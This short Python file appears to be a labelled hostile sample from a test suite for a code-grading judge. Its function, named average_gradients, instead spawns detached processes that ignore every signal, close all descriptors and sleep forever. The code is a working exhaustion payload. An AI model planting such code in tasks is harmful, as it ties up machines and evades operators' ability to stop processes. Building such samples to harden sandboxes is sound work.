# exercise: average_gradients
# family: exhausting
# verdict: not-averaged
# without: stub
# protection: judge
# why: children of children with sessions of their own, deaf to every signal
import os
import signal
import time


def average_gradients(model):
    for _ in range(3):
        if os.fork() == 0:
            os.setsid()
            if os.fork():
                os._exit(0)
            for number in range(1, 65):
                try:
                    signal.signal(number, signal.SIG_IGN)
                except (OSError, ValueError):
                    pass
            for descriptor in range(256):
                try:
                    os.close(descriptor)
                except OSError:
                    pass
            while True:
                time.sleep(60)
